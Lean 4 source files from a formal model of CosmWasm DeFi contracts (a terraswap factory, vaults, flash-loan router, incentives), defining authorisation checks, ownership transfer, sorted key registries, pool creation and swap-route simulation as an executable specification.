def admits (s : St) (m : Msg) (sel : FlowSel) (r : Role) : Bool := admitsP s m sel (resolve m.contract r)

/-- the messages a handler sends on to another hub contract *as itself* (sender, message); these are
    the internal flows whose receiving side carries a sender check somewhere in the chain -/
def subcalls : Msg → List (Principal × Msg)
  | .terraswap_factory .UpdatePairConfig => [(.contract .terraswap_factory, .terraswap_pair .UpdateConfig)]
  | .terraswap_factory .UpdateTrioConfig => [(.contract .terraswap_factory, .stableswap_3pool .UpdateConfig)]
  | .vault_factory .UpdateVaultConfig => [(.contract .vault_factory, .vault .UpdateConfig)]
  | .fee_distributor .NewEpoch => [(.contract .fee_distributor, .fee_collector .ForwardFees)]
  | .terraswap_router .ExecuteSwapOperations =>
      [(.contract .terraswap_router, .terraswap_router .ExecuteSwapOperation),
       (.contract .terraswap_router, .terraswap_router .AssertMinimumReceive)]
  | .terraswap_router .Receive_ExecuteSwapOperations =>
      [(.contract .terraswap_router, .terraswap_router .ExecuteSwapOperation),
       (.contract .terraswap_router, .terraswap_router .AssertMinimumReceive)]
  | .vault .FlashLoan => [(.contract .vault, .vault .Callback_AfterTrade)]
  | .vault_router .FlashLoan =>
      [(.contract .vault_router, .vault .FlashLoan),
       (.contract .vault, .vault_router .NextLoan),
       (.contract .vault_router, .vault_router .CompleteLoan)]
  | _ => []

def subcallsAdmitted (s : St) (m : Msg) : Bool :=
  (subcalls m).all fun pm => admitsP s pm.2 .none pm.1

/-- which contract's `owner` field a message rewrites when its payload names a new owner -/
def ownerTarget : Msg → Option Contract
  | .terraswap_factory .UpdateConfig => some .terraswap_factory
  | .terraswap_factory .UpdatePairConfig => some .terraswap_pair
  | .terraswap_factory .UpdateTrioConfig => some .stableswap_3pool
  | .terraswap_pair .UpdateConfig => some .terraswap_pair
  | .stableswap_3pool .UpdateConfig => some .stableswap_3pool
  | .incentive_factory .UpdateConfig => some .incentive_factory
  | .frontend_helper .UpdateConfig => some .frontend_helper
  | .vault_factory .UpdateConfig => some .vault_factory
  | .vault_factory .UpdateVaultConfig => some .vault
  | .vault .UpdateConfig => some .vault
  | .vault_router .UpdateConfig => some .vault_router
  | .fee_collector .UpdateConfig => some .fee_collector
  | .fee_distributor .UpdateConfig => some .fee_distributor
  | .whale_lair .UpdateConfig => some .whale_lair
  | .epoch_manager .UpdateConfig => some .epoch_manager
  | _ => none

/-- what of a message's payload the authorisation state depends on: a new owner, the flow it names -/
structure Payload where
  newOwner : Option Principal
  flow : FlowSel

def Payload.plain : Payload := ⟨none, .none⟩

/-- the effect on the configured owners of an admitted message whose payload carries `owner := newOwner` -/
def ownerEffect (s : St) (m : Msg) (newOwner : Option Principal) : St :=
  match ownerTarget m, newOwner with
  | some c, some n => s.setOwner c n
  | _, _ => s

/-- the effect on the stored flows: `CloseFlow` removes the flow the message denotes, and only that one -/
def flowEffect (s : St) (m : Msg) (sel : FlowSel) : St :=
  match m with
  | .incentive .CloseFlow =>
    match s.resolve sel with
    | some f => { s with flows := s.flows.erase f }
    | none => s
  | _ => s

/-- the effect on the authorisation state of an admitted message (every other effect is outside this model) -/
def effect (s : St) (m : Msg) (pl : Payload) : St :=
  flowEffect (ownerEffect s m pl.newOwner) m pl.flow

/-- guarded dispatch by principal: reject unless the table's rule holds for the sender and for every
    internal message the handler sends on; a rejected call returns `err` — nothing is written -/
def stepP (s : St) (m : Msg) (pl : Payload) (p : Principal) : Res St :=
  if admitsP s m pl.flow p then
    if subcallsAdmitted s m then .ok (effect s m pl) else .err
  else .err

/-- guarded dispatch by role (`step : St → Contract×Variant → payload → Role → Res St`) -/
def step (s : St) (m : Msg) (pl : Payload) (r : Role) : Res St :=
  stepP s m pl (resolve m.contract r)

/-- the call got past the target's own check but a contract further down refused the target -/
def nestedRefusal (s : St) (m : Msg) (sel : FlowSel) (r : Role) : Bool :=
  admits s m sel r && !subcallsAdmitted s m

/-! ## Ownership transfer script (what the harness executes between the two phases) -/

/-- contracts that store a transferable owner, with the message that transfers it and the role that
    sends it at genesis (children are transferred through their factory by the factory's owner) -/
def transferScript : List Msg :=
  [ .terraswap_factory .UpdatePairConfig, .terraswap_factory .UpdateTrioConfig,
    .vault_factory .UpdateVaultConfig,
    .terraswap_factory .UpdateConfig, .incentive_factory .UpdateConfig, .frontend_helper .UpdateConfig,
    .vault_factory .UpdateConfig, .vault_router .UpdateConfig, .fee_collector .UpdateConfig,
    .fee_distributor .UpdateConfig, .whale_lair .UpdateConfig, .epoch_manager .UpdateConfig ]

def runScript (s : St) : List Msg → Res St
  | [] => .ok s
  | m :: ms =>
    match step s m ⟨some (.acct .newOwner), .none⟩ .owner with
    | .ok s' => runScript s' ms
    | .err => .err
    | .panic => .panic

/-- state after every owner has been handed to `newOwner` by the genesis owner -/
def St.afterTransfer : Res St := runScript St.init transferScript

/-! ## Enumerations and names (line protocol) -/

def allContracts : List Contract :=
  [ .terraswap_factory, .terraswap_pair, .stableswap_3pool, .terraswap_router, .terraswap_token,
    .incentive_factory, .incentive, .frontend_helper, .vault_factory, .vault, .vault_router,
    .fee_collector, .fee_distributor, .whale_lair, .epoch_manager ]

def allRoles : List Role :=
  [ .owner, .newOwner, .user, .wasmAdmin, .flowCreator, .self, .factory, .sibling, .feeDistributor,
    .registeredVault, .minter, .lpToken, .assetToken, .trioLp, .vaultLp, .otherFlowCreator, .borrower ]
  ++ allContracts.map Role.hub

def allMsgs : List Msg :=
  ([ .UpdateConfig, .UpdatePairConfig, .UpdateTrioConfig, .CreatePair, .CreateTrio,
     .AddNativeTokenDecimals, .MigratePair, .MigrateTrio, .RemovePair, .RemoveTrio ].map Msg.terraswap_factory)
  ++ ([ .Receive_Swap, .Receive_WithdrawLiquidity, .ProvideLiquidity, .WithdrawLiquidity, .Swap,
        .UpdateConfig, .CollectProtocolFees ].map Msg.terraswap_pair)
  ++ ([ .Receive_Swap, .Receive_WithdrawLiquidity, .ProvideLiquidity, .WithdrawLiquidity, .Swap,
        .UpdateConfig, .CollectProtocolFees ].map Msg.stableswap_3pool)
  ++ ([ .Receive_ExecuteSwapOperations, .ExecuteSwapOperations, .ExecuteSwapOperation,
        .AssertMinimumReceive, .AddSwapRoutes, .RemoveSwapRoutes ].map Msg.terraswap_router)
  ++ ([ .Transfer, .Burn, .Send, .IncreaseAllowance, .DecreaseAllowance, .TransferFrom, .SendFrom,
        .BurnFrom, .Mint, .UpdateMinter, .UpdateMarketing, .UploadLogo ].map Msg.terraswap_token)
  ++ ([ .CreateIncentive, .UpdateConfig, .MigrateIncentives ].map Msg.incentive_factory)
  ++ ([ .TakeGlobalWeightSnapshot, .OpenFlow, .CloseFlow, .OpenPosition, .ExpandPosition,
        .ClosePosition, .Withdraw, .Claim, .ExpandFlow ].map Msg.incentive)
  ++ ([ .Deposit, .UpdateConfig ].map Msg.frontend_helper)
  ++ ([ .CreateVault, .MigrateVaults, .RemoveVault, .UpdateVaultConfig, .UpdateConfig ].map Msg.vault_factory)
  ++ ([ .Deposit, .Withdraw, .FlashLoan, .CollectProtocolFees, .UpdateConfig, .Receive_Withdraw,
        .Callback_AfterTrade ].map Msg.vault)
  ++ ([ .FlashLoan, .UpdateConfig, .NextLoan, .CompleteLoan ].map Msg.vault_router)
  ++ ([ .CollectFees, .AggregateFees, .ForwardFees, .UpdateConfig ].map Msg.fee_collector)
  ++ ([ .NewEpoch, .Claim, .UpdateConfig ].map Msg.fee_distributor)
  ++ ([ .Bond, .Unbond, .Withdraw, .UpdateConfig ].map Msg.whale_lair)
  ++ ([ .CreateEpoch, .AddHook, .RemoveHook, .UpdateConfig ].map Msg.epoch_manager)

def Contract.name : Contract → String
  | .terraswap_factory => "terraswap_factory" | .terraswap_pair => "terraswap_pair"
  | .stableswap_3pool => "stableswap_3pool" | .terraswap_router => "terraswap_router"
  | .terraswap_token => "terraswap_token" | .incentive_factory => "incentive_factory"
  | .incentive => "incentive" | .frontend_helper => "frontend_helper"
  | .vault_factory => "vault_factory" | .vault => "vault" | .vault_router => "vault_router"
  | .fee_collector => "fee_collector" | .fee_distributor => "fee_distributor"
  | .whale_lair => "whale_lair" | .epoch_manager => "epoch_manager"

def Role.name : Role → String
  | .owner => "owner" | .newOwner => "newOwner" | .user => "user" | .wasmAdmin => "wasmAdmin"
  | .flowCreator => "flowCreator" | .self => "self" | .factory => "factory" | .sibling => "sibling"
  | .feeDistributor => "feeDistributor" | .registeredVault => "registeredVault" | .minter => "minter"
  | .lpToken => "lpToken" | .assetToken => "assetToken" | .trioLp => "trioLp" | .vaultLp => "vaultLp"
  | .otherFlowCreator => "otherFlowCreator" | .borrower => "borrower"
  | .hub c => "c:" ++ c.name

/-- the Rust variant name ("Receive.Swap" for `Receive(Cw20HookMsg::Swap)`) -/
def Msg.variantName : Msg → String
  | .terraswap_factory v => match v with
    | .UpdateConfig => "UpdateConfig" | .UpdatePairConfig => "UpdatePairConfig"
    | .UpdateTrioConfig => "UpdateTrioConfig" | .CreatePair => "CreatePair" | .CreateTrio => "CreateTrio"
    | .AddNativeTokenDecimals => "AddNativeTokenDecimals" | .MigratePair => "MigratePair"
    | .MigrateTrio => "MigrateTrio" | .RemovePair => "RemovePair" | .RemoveTrio => "RemoveTrio"
  | .terraswap_pair v => match v with
    | .Receive_Swap => "Receive.Swap" | .Receive_WithdrawLiquidity => "Receive.WithdrawLiquidity"
    | .ProvideLiquidity => "ProvideLiquidity" | .WithdrawLiquidity => "WithdrawLiquidity"
    | .Swap => "Swap" | .UpdateConfig => "UpdateConfig" | .CollectProtocolFees => "CollectProtocolFees"
  | .stableswap_3pool v => match v with
    | .Receive_Swap => "Receive.Swap" | .Receive_WithdrawLiquidity => "Receive.WithdrawLiquidity"
    | .ProvideLiquidity => "ProvideLiquidity" | .WithdrawLiquidity => "WithdrawLiquidity"
    | .Swap => "Swap" | .UpdateConfig => "UpdateConfig" | .CollectProtocolFees => "CollectProtocolFees"
  | .terraswap_router v => match v with
    | .Receive_ExecuteSwapOperations => "Receive.ExecuteSwapOperations"
    | .ExecuteSwapOperations => "ExecuteSwapOperations" | .ExecuteSwapOperation => "ExecuteSwapOperation"
    | .AssertMinimumReceive => "AssertMinimumReceive" | .AddSwapRoutes => "AddSwapRoutes"
    | .RemoveSwapRoutes => "RemoveSwapRoutes"
  | .terraswap_token v => match v with
    | .Transfer => "Transfer" | .Burn => "Burn" | .Send => "Send"
    | .IncreaseAllowance => "IncreaseAllowance" | .DecreaseAllowance => "DecreaseAllowance"
    | .TransferFrom => "TransferFrom" | .SendFrom => "SendFrom" | .BurnFrom => "BurnFrom"
    | .Mint => "Mint" | .UpdateMinter => "UpdateMinter" | .UpdateMarketing => "UpdateMarketing"
    | .UploadLogo => "UploadLogo"
  | .incentive_factory v => match v with
    | .CreateIncentive => "CreateIncentive" | .UpdateConfig => "UpdateConfig"
    | .MigrateIncentives => "MigrateIncentives"
  | .incentive v => match v with
    | .TakeGlobalWeightSnapshot => "TakeGlobalWeightSnapshot" | .OpenFlow => "OpenFlow"
    | .CloseFlow => "CloseFlow" | .OpenPosition => "OpenPosition" | .ExpandPosition => "ExpandPosition"
    | .ClosePosition => "ClosePosition" | .Withdraw => "Withdraw" | .Claim => "Claim"
    | .ExpandFlow => "ExpandFlow"
  | .frontend_helper v => match v with
    | .Deposit => "Deposit" | .UpdateConfig => "UpdateConfig"
  | .vault_factory v => match v with
    | .CreateVault => "CreateVault" | .MigrateVaults => "MigrateVaults" | .RemoveVault => "RemoveVault"
    | .UpdateVaultConfig => "UpdateVaultConfig" | .UpdateConfig => "UpdateConfig"
  | .vault v => match v with
    | .Deposit => "Deposit" | .Withdraw => "Withdraw" | .FlashLoan => "FlashLoan"
    | .CollectProtocolFees => "CollectProtocolFees" | .UpdateConfig => "UpdateConfig"
    | .Receive_Withdraw => "Receive.Withdraw" | .Callback_AfterTrade => "Callback.AfterTrade"
  | .vault_router v => match v with
    | .FlashLoan => "FlashLoan" | .UpdateConfig => "UpdateConfig" | .NextLoan => "NextLoan"
    | .CompleteLoan => "CompleteLoan"
  | .fee_collector v => match v with
    | .CollectFees => "CollectFees" | .AggregateFees => "AggregateFees" | .ForwardFees => "ForwardFees"
    | .UpdateConfig => "UpdateConfig"
  | .fee_distributor v => match v with
    | .NewEpoch => "NewEpoch" | .Claim => "Claim" | .UpdateConfig => "UpdateConfig"
  | .whale_lair v => match v with
    | .Bond => "Bond" | .Unbond => "Unbond" | .Withdraw => "Withdraw" | .UpdateConfig => "UpdateConfig"
  | .epoch_manager v => match v with
    | .CreateEpoch => "CreateEpoch" | .AddHook => "AddHook" | .RemoveHook => "RemoveHook"
    | .UpdateConfig => "UpdateConfig"

def Msg.ofNames (c v : String) : Option Msg :=
  allMsgs.find? fun m => m.contract.name == c && m.variantName == v

def Role.ofName (r : String) : Option Role := allRoles.find? fun x => x.name == r

/-- does the message name a stored flow whose owner the sender check depends on (7th op-line token) -/
def Msg.namesFlow : Msg → Bool
  | .incentive .CloseFlow => true
  | _ => false

/-- object selectors of the line protocol (hub.rs FLOW_SELECTORS); `id9` names no flow -/
def allFlowSels : List (String × FlowSel) :=
  [ ("id1", .id 1), ("id2", .id 2), ("id3", .id 3), ("id4", .id 4), ("labShared", .label 0),
    ("labLate", .label 1), ("id9", .id 9) ]

def FlowSel.ofName (n : String) : Option FlowSel := (allFlowSels.find? fun x => x.1 == n).map (·.2)

/-- the phases of the matrix and the state each one runs in -/
def phaseState (phase : String) : Option St :=
  if phase == "before" then some St.init
  else if phase == "after" then St.afterTransfer.toOption
  else if phase == "inloan" then some (St.init.withLoan true)
  else none

def AuthRule.name : AuthRule → String
  | .owner => "owner" | .self => "self" | .wasmAdmin => "wasmAdmin" | .minter => "minter"
  | .nobody => "nobody" | .feeDistributor => "feeDistributor" | .registeredVault => "registeredVault"
  | .lpToken => "lpToken" | .poolAssetToken => "poolAssetToken"
  | .flowCreatorOrFactoryOwner => "flowCreatorOrFactoryOwner"

end WW.Auth
