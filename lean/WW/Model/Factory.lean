/-
  C19 — factories and router registry.

  Executable model of
    * pool factory   `terraswap_factory/src/{commands,state,contract,queries}.rs`
    * vault factory  `vault_factory/src/{execute/create_vault,execute/remove_vault,reply/vault_instantiate,state}.rs`
    * incentive factory `incentive_factory/src/{execute/create_incentive,reply/create_incentive_reply,queries/*}.rs`
    * swap router    `terraswap_router/src/{contract,operations,state}.rs`

  Keys are byte strings (`List Nat`). `pair_key` / `trio_key` = concatenation of the raw asset-info byte
  strings after sorting them (no separator). A cw-storage-plus `Map` iterates in lexicographic key order, so
  a registry is an association list kept strictly sorted by key. Children (pair / trio / vault / incentive
  contracts) are rows of per-kind tables; a child's row is "what the child itself reports" (`Pair {}`,
  `Trio {}`, `Config {}` queries); its index is its creation serial.

  The universe of assets is a parameter (`Cfg`): for every asset its raw bytes (`AssetInfoRaw::as_bytes`:
  denom bytes / canonical address), its reference bytes (vault factory `get_reference`: denom bytes /
  address *string* bytes), its label (`AssetInfo::get_label`) and, for cw20s, the token's decimals.
  Nothing is assumed about these byte strings: collisions such as {ab,c} vs {a,bc} are representable.
-/
import WW.Cw.Arith
import WW.Gen.Constants
namespace WW.Factory
open WW

abbrev Bytes := List Nat

/-- lexicographic `<` on byte strings (the order of raw storage keys) -/
def blt (a b : Bytes) : Bool := decide (a < b)

/-! ### keys -/

/-- insertion into a list sorted by `≤` (`sort_by(|a, b| a.as_bytes().cmp(b.as_bytes()))`; only the byte
    strings matter for the key, so stability is irrelevant) -/
def insSorted (x : Bytes) : List Bytes → List Bytes
  | [] => [x]
  | y :: ys => if blt y x then y :: insSorted x ys else x :: y :: ys

def sortBytes : List Bytes → List Bytes
  | [] => []
  | x :: xs => insSorted x (sortBytes xs)

/-- `[sorted[0].as_bytes(), sorted[1].as_bytes(), …].concat()` -/
def concatKey (l : List Bytes) : Bytes := (sortBytes l).flatten

def pairKey (a b : Bytes) : Bytes := concatKey [a, b]
def trioKey (a b c : Bytes) : Bytes := concatKey [a, b, c]

/-! ### registries: association lists strictly sorted by key -/

def regLookup {ε : Type} (k : Bytes) : List (Bytes × ε) → Option ε
  | [] => none
  | (k', v) :: r => if k' = k then some v else regLookup k r

/-- `Map::save`: insert at the key's place, overwrite an equal key -/
def regInsert {ε : Type} (k : Bytes) (v : ε) : List (Bytes × ε) → List (Bytes × ε)
  | [] => [(k, v)]
  | (k', v') :: r =>
    if blt k k' then (k, v) :: (k', v') :: r
    else if blt k' k then (k', v') :: regInsert k v r
    else (k, v) :: r

/-- `Map::remove` -/
def regErase {ε : Type} (k : Bytes) : List (Bytes × ε) → List (Bytes × ε)
  | [] => []
  | (k', v') :: r => if k' = k then regErase k r else (k', v') :: regErase k r

/-- `calc_range_start`: "the first key after the provided key, by appending a 1 byte" -/
def cursorBound (k : Bytes) : Bytes := k ++ [1]

/-- `range(start = Some(Bound::ExclusiveRaw(bound)), None, Ascending)` -/
def regAfter {ε : Type} (bound : Option Bytes) (r : List (Bytes × ε)) : List (Bytes × ε) :=
  match bound with
  | none => r
  | some b => r.filter (fun e => blt b e.1)

/-- `limit.unwrap_or(DEFAULT_LIMIT).min(MAX_LIMIT) as usize` -/
def pageLimit (dflt max : Nat) (limit : Option Nat) : Nat := min (limit.getD dflt) max

/-- one page: `start_after` is the *key* of the cursor entry (each factory computes it from the cursor's
    asset infos exactly as it computes the storage key) -/
def regPage {ε : Type} (r : List (Bytes × ε)) (startAfter : Option Bytes) (lim : Nat) : List (Bytes × ε) :=
  (regAfter (startAfter.map cursorBound) r).take lim

/-- a client iterating pages: next cursor = last entry of the page; stops at an empty page -/
def pagesFrom {ε : Type} : Nat → List (Bytes × ε) → Option Bytes → Nat → List (List (Bytes × ε))
  | 0, _, _, _ => []
  | fuel + 1, r, cur, lim =>
    match (regPage r cur lim).getLast? with
    | none => []
    | some e => regPage r cur lim :: pagesFrom fuel r (some e.1) lim

/-! ### `Res` folds (structural, so that `decide` evaluates them) -/

def mapRes {α β : Type} (f : α → Res β) : List α → Res (List β)
  | [] => .ok []
  | a :: as =>
    match f a with
    | .ok b =>
      match mapRes f as with
      | .ok bs => .ok (b :: bs)
      | .err => .err
      | .panic => .panic
    | .err => .err
    | .panic => .panic

def foldRes {σ α : Type} (f : σ → α → Res σ) : σ → List α → Res σ
  | s, [] => .ok s
  | s, a :: as =>
    match f s a with
    | .ok s' => foldRes f s' as
    | .err => .err
    | .panic => .panic

/-! ### universe -/

structure AssetDef where
  native : Bool
  /-- `AssetInfoRaw::as_bytes` -/
  raw : Bytes
  /-- vault factory `AssetReference::get_reference` = `to_string().as_bytes()` -/
  ref : Bytes
  /-- `AssetInfo::get_label` (denom, shortened ibc / factory denom, cw20 symbol) -/
  label : Bytes
  /-- cw20 `token_info.decimals` (unused for natives) -/
  dec : Nat
  /-- a cw20 address written in another letter case (`CONTRACT0` for `contract0`): `addr_canonicalize`
      lower-cases, so `raw` — and with it every pool / incentive key — is that of the real token, while
      `ref` (the address *string*) is its own; no contract answers at this spelling and `addr_validate`
      refuses it, so every label / decimals query on it fails -/
  dead : Bool := false
deriving Repr, DecidableEq

structure Cfg where
  assets : List AssetDef
deriving Repr

def assetOf (cfg : Cfg) (i : Nat) : Res AssetDef :=
  match cfg.assets[i]? with
  | some a => .ok a
  | none => .err

def rawOf (cfg : Cfg) (i : Nat) : Res Bytes := do let a ← assetOf cfg i; pure a.raw
def labelOf (cfg : Cfg) (i : Nat) : Res Bytes := do
  let a ← assetOf cfg i
  if a.dead then .err else pure a.label

/-- key of a list of universe assets -/
def keyOf (cfg : Cfg) (idx : List Nat) : Res Bytes := do
  let raws ← mapRes (rawOf cfg) idx
  pure (concatKey raws)

/-! ### pool factory -/

/-- what a pair / trio contract reports about itself (`Pair {}` / `Trio {}` / `Pool {}`) -/
structure PoolChild where
  assets : List Nat
  decs : List Nat
  /-- `none` = ConstantProduct, `some amp` = StableSwap (always `none` for trios) -/
  ptype : Option Nat
  /-- id of the LP token this child instantiated -/
  lp : Nat
  /-- both reserves non-zero -/
  funded : Bool
deriving Repr, DecidableEq

/-- `PairInfoRaw` / `TrioInfoRaw` as stored by the factory -/
structure PoolEntry where
  assets : List Nat
  child : Nat
  decs : List Nat
  ptype : Option Nat
  lp : Nat
deriving Repr, DecidableEq

/-- `TMP_PAIR_INFO` / `TMP_TRIO_INFO` -/
structure Tmp where
  key : Bytes
  assets : List Nat
  decs : List Nat
  ptype : Option Nat
deriving Repr, DecidableEq

structure PoolReg where
  reg : List (Bytes × PoolEntry)
  kids : List PoolChild
  tmp : Option Tmp
deriving Repr, DecidableEq

/-- the LP token name `{l0}-{l1}[-{l2}]-LP` must be 3–50 bytes (cw20 instantiate validation) -/
def lpNameLen (labels : List Bytes) : Nat := (labels.map List.length).sum + labels.length + 2
def lpNameOk (labels : List Bytes) : Bool := 3 ≤ lpNameLen labels && lpNameLen labels ≤ 50

def distinctIdx : List Nat → Bool
  | [] => true
  | x :: xs => !xs.contains x && distinctIdx xs

/-- `create_pair` / `create_trio`, the child's `instantiate`, and the factory's `reply`, in that order.
    `decsOf` = `AssetInfo::query_decimals` against the factory; `instOk` = the part of the child's
    `instantiate` that depends on the pool type (amplification bounds). -/
def PoolReg.create (cfg : Cfg) (decsOf : Nat → Res Nat) (r : PoolReg) (idx : List Nat)
    (ptype : Option Nat) (instOk : Bool) : Res PoolReg := do
  -- SameAsset
  guardErr (distinctIdx idx)
  -- query_decimals for every asset: InvalidAsset
  let ds ← mapRes decsOf idx
  -- to_raw, pair_key, ExistingPair
  let key ← keyOf cfg idx
  guardErr (regLookup key r.reg).isNone
  -- TMP_PAIR_INFO.save
  let r1 : PoolReg := { r with tmp := some { key := key, assets := idx, decs := ds, ptype := ptype } }
  -- labels for the submessage
  let labels ← mapRes (labelOf cfg) idx
  -- child instantiate: pool-type checks, then the LP token (name validation).
  -- Engine convention: a StableSwap pair is provided liquidity in the creating op (`funded := ptype.isSome`);
  -- a simulation on an *empty* StableSwap pool fails or not depending on the amount, which is not modelled.
  guardErr instOk
  guardErr (lpNameOk labels)
  let serial := r1.kids.length
  let r2 : PoolReg := { r1 with kids := r1.kids ++ [{ assets := idx, decs := ds, ptype := ptype, lp := serial, funded := ptype.isSome }] }
  -- reply: TMP load, query the child, save the entry under the TMP key with the child's LP token
  match r2.tmp, r2.kids[serial]? with
  | some t, some rep =>
    pure { r2 with reg := regInsert t.key { assets := t.assets, child := serial, decs := t.decs, ptype := t.ptype, lp := rep.lp } r2.reg }
  | _, _ => .err

/-- `remove_pair` / `remove_trio` -/
def PoolReg.remove (cfg : Cfg) (r : PoolReg) (idx : List Nat) : Res PoolReg := do
  let key ← keyOf cfg idx
  match regLookup key r.reg with
  | none => .err
  | some _ => pure { r with reg := regErase key r.reg }

/-- factory `Pair { asset_infos }` / `Trio { asset_infos }` query -/
def PoolReg.lookup (cfg : Cfg) (r : PoolReg) (idx : List Nat) : Res PoolEntry := do
  let key ← keyOf cfg idx
  match regLookup key r.reg with
  | none => .err
  | some e => pure e

def setFunded : List PoolChild → Nat → List PoolChild
  | [], _ => []
  | c :: cs, 0 => { c with funded := true } :: cs
  | c :: cs, n + 1 => c :: setFunded cs n

/-- (harness op) provide liquidity to the registered pair -/
def PoolReg.fund (cfg : Cfg) (r : PoolReg) (idx : List Nat) : Res PoolReg := do
  let e ← r.lookup cfg idx
  pure { r with kids := setFunded r.kids e.child }

/-! ### vault factory -/

structure VaultEntry where
  child : Nat
  asset : Nat
deriving Repr, DecidableEq

structure VaultReg where
  reg : List (Bytes × VaultEntry)
  /-- the asset each vault's `Config {}` reports -/
  kids : List Nat
  /-- `TMP_VAULT_ASSET` -/
  tmp : Option (Bytes × Nat)
deriving Repr, DecidableEq

/-- vault `instantiate`: LP symbol `uLP-` + first 8 label chars, cut at `/` for labels starting `ibc` -/
def vaultLpSymbol (label : Bytes) : Bytes :=
  let s := [117, 76, 80, 45] ++ label.take 8
  if [105, 98, 99].isPrefixOf label then s.takeWhile (fun c => c != 47) else s

/-- cw20 `is_valid_symbol`: `[a-zA-Z\-]{3,12}` -/
def symbolOk (s : Bytes) : Bool :=
  3 ≤ s.length && s.length ≤ 12 && s.all (fun c => c == 45 || (65 ≤ c && c ≤ 90) || (97 ≤ c && c ≤ 122))

def VaultReg.create (cfg : Cfg) (r : VaultReg) (i : Nat) : Res VaultReg := do
  let a ← assetOf cfg i
  -- ExistingVault
  guardErr (regLookup a.ref r.reg).isNone
  -- the label of the instantiate message: `get_label` (token-info query after `addr_validate`)
  guardErr (!a.dead)
  -- TMP_VAULT_ASSET.save
  let r1 : VaultReg := { r with tmp := some (a.ref, i) }
  -- vault instantiate: LP token symbol validation
  guardErr (symbolOk (vaultLpSymbol a.label))
  let serial := r1.kids.length
  let r2 : VaultReg := { r1 with kids := r1.kids ++ [i] }
  -- reply
  match r2.tmp with
  | some (k, ai) => pure { r2 with reg := regInsert k { child := serial, asset := ai } r2.reg }
  | none => .err

def VaultReg.remove (cfg : Cfg) (r : VaultReg) (i : Nat) : Res VaultReg := do
  let a ← assetOf cfg i
  match regLookup a.ref r.reg with
  | none => .err
  | some _ => pure { r with reg := regErase a.ref r.reg }

/-! ### incentive factory -/

structure IncReg where
  /-- lp asset raw bytes ↦ incentive child serial -/
  reg : List (Bytes × Nat)
  /-- the lp asset each incentive's `Config {}` reports -/
  kids : List Nat
deriving Repr, DecidableEq

def IncReg.create (cfg : Cfg) (r : IncReg) (i : Nat) : Res IncReg := do
  let a ← assetOf cfg i
  -- DuplicateIncentiveContract
  guardErr (regLookup a.raw r.reg).isNone
  -- the label of the instantiate message: `get_label` (token-info query after `addr_validate`)
  guardErr (!a.dead)
  let serial := r.kids.length
  let r1 : IncReg := { r with kids := r.kids ++ [i] }
  -- reply: the key is computed from the lp asset the child sends back
  match r1.kids[serial]? with
  | some li => do
    let la ← assetOf cfg li
    pure { r1 with reg := regInsert la.raw serial r1.reg }
  | none => .err

/-! ### state -/

structure RouteEntry where
  lo : Bytes
  la : Bytes
  hops : List (Nat × Nat)
deriving Repr, DecidableEq

structure Route where
  offer : Nat
  ask : Nat
  hops : List (Nat × Nat)
deriving Repr, DecidableEq

structure St where
  /-- `ALLOW_NATIVE_TOKENS` (key: denom bytes) -/
  decs : List (Bytes × Nat)
  pairs : PoolReg
  trios : PoolReg
  vaults : VaultReg
  incs : IncReg
  /-- `SWAP_ROUTES: Map<(&str, &str), Vec<SwapOperation>>` -/
  routes : List (Bytes × RouteEntry)
deriving Repr, DecidableEq

def St.init : St :=
  { decs := [], pairs := ⟨[], [], none⟩, trios := ⟨[], [], none⟩, vaults := ⟨[], [], none⟩,
    incs := ⟨[], []⟩, routes := [] }

/-- contract instances in the chain per child code: pair, trio, vault, incentive, cw20. Every pair / trio /
    vault instantiates its own cw20 LP token (`token_factory_lp = false`); the cw20 tokens of the universe
    exist from the start. Children are never destroyed: removing an entry leaves its child in the chain. -/
def childCounts (cfg : Cfg) (s : St) : List Nat :=
  [s.pairs.kids.length, s.trios.kids.length, s.vaults.kids.length, s.incs.kids.length,
   (cfg.assets.filter (fun a => !a.native && !a.dead)).length + s.pairs.kids.length + s.trios.kids.length +
     s.vaults.kids.length]

/-- `AssetInfo::query_decimals(factory)` -/
def decsOf (cfg : Cfg) (s : St) (i : Nat) : Res Nat := do
  let a ← assetOf cfg i
  if a.native then
    match regLookup a.ref s.decs with
    | some d => pure d
    | none => .err
  else if a.dead then .err
  else pure a.dec

/-- pair `instantiate`: StableSwap amp within `[MIN_AMP, MAX_AMP]` -/
def pairInstOk : Option Nat → Bool
  | none => true
  | some amp => Gen.PAIR_MIN_AMP ≤ amp && amp ≤ Gen.PAIR_MAX_AMP

/-- trio `instantiate` -/
def trioInstOk (amp : Nat) : Bool := Gen.TRIO_MIN_AMP ≤ amp && amp ≤ Gen.TRIO_MAX_AMP

/-! ### router -/

/-- composite key `(offer label, ask label)`: 2-byte big-endian length prefix on the first component -/
def routeKey (lo la : Bytes) : Bytes := [lo.length / 256, lo.length % 256] ++ lo ++ la

/-- one hop of `simulate_swap_operations`: factory `Pair` query, then the pair's `Simulation` -/
def simHop (cfg : Cfg) (s : St) (h : Nat × Nat) : Res Unit := do
  let e ← s.pairs.lookup cfg [h.1, h.2]
  match s.pairs.kids[e.child]? with
  | none => .err
  | some c =>
    if !c.assets.contains h.1 then .err        -- AssetMismatch
    else match c.ptype with
      | none => if c.funded then pure () else .panic   -- Decimal256::from_ratio(ask_pool, 0)
      | some _ => pure ()

def simHops (cfg : Cfg) (s : St) : List (Nat × Nat) → Res Unit
  | [] => .ok ()
  | h :: hs =>
    match simHop cfg s h with
    | .ok _ => simHops cfg s hs
    | .err => .err
    | .panic => .panic

/-- `add_swap_routes`, one route: simulate with amount 1, then store under the label key -/
def addRoute (cfg : Cfg) (s : St) (rt : Route) : Res St := do
  guardErr (!rt.hops.isEmpty)     -- NoSwapOperationsProvided
  simHops cfg s rt.hops
  let lo ← labelOf cfg rt.offer
  let la ← labelOf cfg rt.ask
  pure { s with routes := regInsert (routeKey lo la) { lo := lo, la := la, hops := rt.hops } s.routes }

def removeRoute (cfg : Cfg) (s : St) (k : Nat × Nat) : Res St := do
  let lo ← labelOf cfg k.1
  let la ← labelOf cfg k.2
  match regLookup (routeKey lo la) s.routes with
  | none => .err
  | some _ => pure { s with routes := regErase (routeKey lo la) s.routes }

/-- `assert_operations`: exactly one output token (on the `to_string()` of the asset infos) -/
def outSet (cfg : Cfg) : List Bytes → List (Nat × Nat) → Res (List Bytes)
  | acc, [] => .ok acc
  | acc, h :: hs =>
    match assetOf cfg h.1, assetOf cfg h.2 with
    | .ok x, .ok y =>
      let acc1 := acc.filter (fun b => b != x.ref)
      let acc2 := if acc1.contains y.ref then acc1 else y.ref :: acc1
      outSet cfg acc2 hs
    | _, _ => .err

